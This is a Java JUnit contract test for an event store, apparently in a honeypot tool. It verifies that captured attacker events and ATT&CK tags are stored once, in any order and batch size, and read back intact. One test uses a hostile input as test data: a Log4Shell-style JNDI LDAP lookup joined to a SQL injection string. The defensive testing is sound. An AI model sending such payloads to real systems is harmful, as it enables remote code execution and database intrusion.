package org.decnet.store;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import org.decnet.engine.port.BatchResult;
import org.decnet.engine.port.StoreTotals;
import org.decnet.engine.port.Stores;
import org.decnet.engine.tag.TaggedEvent;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.decnet.model.event.SessionId;
import org.decnet.testkit.Events;
import org.decnet.testkit.Scene;
import org.decnet.testkit.Tags;
import org.junit.jupiter.api.Test;

/** Writing events: each once, in any order, in any batches. */
abstract class EventStoreContract extends StoreContract {
  private static final Scene SCENE = Scene.ssh("web-1", "s1", "198.51.100.7");

  EventStoreContract(Engine engine) {
    super(engine);
  }

  @Test
  void orderAndBatchesDoNotMatter() throws SQLException {
    List<TaggedEvent> events = tagged(Events.sessions(7, 40));
    stores.events().write(events);
    List<String> expected = dump(folder);
    assertThat(expected).hasSizeGreaterThan(events.size());
    for (int seed = 1; seed <= 6; seed++) {
      Path other = folder.resolve("run-" + seed);
      writeInPieces(other, shuffled(events, seed), new Random(seed));
      Dump.assertSame(dump(other), expected);
    }
  }

  @Test
  void writingAgainChangesNothing() throws SQLException {
    List<TaggedEvent> events = tagged(Events.sessions(8, 20));
    BatchResult first = stores.events().write(events);
    List<String> expected = dump(folder);
    BatchResult second = stores.events().write(shuffled(events, 3));
    assertThat(first.newEvents()).isPositive();
    assertThat(first.newTags()).isPositive();
    assertThat(second).isEqualTo(new BatchResult(0, 0, first.tags(), 0, 0));
    Dump.assertSame(dump(folder), expected);
  }

  @Test
  void runThatBreaksOffIsMadeGoodByRunningAgain() throws SQLException {
    List<TaggedEvent> events = tagged(Events.sessions(9, 20));
    stores.events().write(events);
    Path other = folder.resolve("broken");
    try (Stores broken = open(other)) {
      broken.events().write(events.subList(0, events.size() / 3));
    }
    try (Stores again = open(other)) {
      again.events().write(events);
    }
    Dump.assertSame(dump(other), dump(folder));
  }

  @Test
  void eventTwiceInOneBatchCountsOnce() {
    Event event = SCENE.command(1, "id");
    assertThat(write(event, event).newEvents()).isEqualTo(1);
    assertThat(stores.actors().attacker(SCENE.attacker()).orElseThrow().eventCount()).isEqualTo(1);
  }

  @Test
  void emptyBatchIsNothing() {
    assertThat(stores.events().write(List.of())).isEqualTo(BatchResult.NONE);
  }

  @Test
  void eventComesBackAsItWas() {
    for (Event event : Events.sessions(10, 30)) {
      write(event);
      assertThat(stores.events().event(event.id())).contains(withoutMemoryOnly(event));
    }
  }

  @Test
  void listsNumbersAndFlagsComeBackAsTheyWere() {
    Event event =
        SCENE
            .event(EventKind.HTTP_REQUEST, 1)
            .set(Field.HEADERS, List.of("Host: x", "A: \"quoted\" \u0000 \n"))
            .set(Field.STATUS, 404L)
            .set(Field.TLS, false)
            .set(Field.SYNTHETIC, false)
            .set(Field.BODY, "${jndi:ldap://203.0.113.1/a}' OR 1=1 --")
            .build();
    write(event);
    assertThat(stores.events().event(event.id())).contains(event);
  }

  @Test
  void unknownEventIsAbsent() {
    assertThat(stores.events().event(new UUID(1, 1))).isEmpty();
  }

  @Test
  void serviceOfSessionIsKnownToLaterRuns() {
    write(SCENE.connect(0));
    assertThat(stores.events().service(SCENE.session())).isEqualTo("ssh");
    assertThat(stores.events().service(new SessionId("web-1:none"))).isNull();
  }

  @Test
  void totalsCountRows() {
    Event command = SCENE.command(3, "id");
    write(SCENE.login(1, "root", "a", "failure"));
    writeTagged(
        command,
        Tags.of(command, "R0001", "T1083", 0.9),
        Tags.of(command, "R0002", "T1548.001", 0.9));
    assertThat(stores.events().totals())
        .isEqualTo(new StoreTotals(2, 1, 1, 1, 1, 2, 2, Scene.second(3)));
  }

  @Test
  void emptyStoreHasNoLastEvent() {
    assertThat(stores.events().totals()).isEqualTo(new StoreTotals(0, 0, 0, 0, 0, 0, 0, null));
  }

  @Test
  void syntheticEventsAreKeptWithoutAttackersOrTags() {
    Event event = SCENE.command(1, "id").toBuilder().set(Field.SYNTHETIC, true).build();
    BatchResult result = writeTagged(event, Tags.of(event, "R0001", "T1083", 0.9));
    assertThat(result).isEqualTo(new BatchResult(1, 0, 0, 0, 0));
    assertThat(writeTagged(event)).isEqualTo(BatchResult.NONE);
    assertThat(stores.events().event(event.id()).orElseThrow().flag(Field.SYNTHETIC)).isTrue();
    StoreTotals totals = stores.events().totals();
    assertThat(totals).isEqualTo(new StoreTotals(1, 0, 0, 0, 0, 0, 0, totals.lastEventAt()));
    assertThat(stores.logs().index()).isZero();
  }

  @Test
  void noiseWithAddressMakesTheAttacker() {
    write(SCENE.notice(1, "parse_error"));
    assertThat(stores.actors().attacker(SCENE.attacker())).isPresent();
  }

  private static List<TaggedEvent> tagged(List<Event> events) {
    List<TaggedEvent> tagged = new ArrayList<>();
    for (Event event : events) {
      tagged.add(
          new TaggedEvent(
              event,
              event.kind() == EventKind.COMMAND
                  ? List.of(
                      Tags.of(event, "R0015", "T1548.001", 0.9),
                      Tags.of(event, "R0016", "T1083", 0.2))
                  : List.of()));
    }
    return tagged;
  }

  private static <T> List<T> shuffled(List<T> list, long seed) {
    List<T> shuffled = new ArrayList<>(list);
    Collections.shuffle(shuffled, new Random(seed));
    return shuffled;
  }

  private void writeInPieces(Path other, List<TaggedEvent> events, Random random) {
    try (Stores run = open(other)) {
      for (int from = 0; from < events.size(); ) {
        int to = Math.min(events.size(), from + 1 + random.nextInt(80));
        run.events().write(events.subList(from, to));
        from = to;
      }
    }
  }

  private List<String> dump(Path of) throws SQLException {
    try (Connection connection = connect(of)) {
      return Dump.of(connection);
    }
  }

  private static Event withoutMemoryOnly(Event event) {
    Event.Builder builder = event.toBuilder();
    for (Field field : event.kind().fields()) {
      if (field.memoryOnly()) {
        builder.set(field, null);
      }
    }
    return builder.build();
  }
}
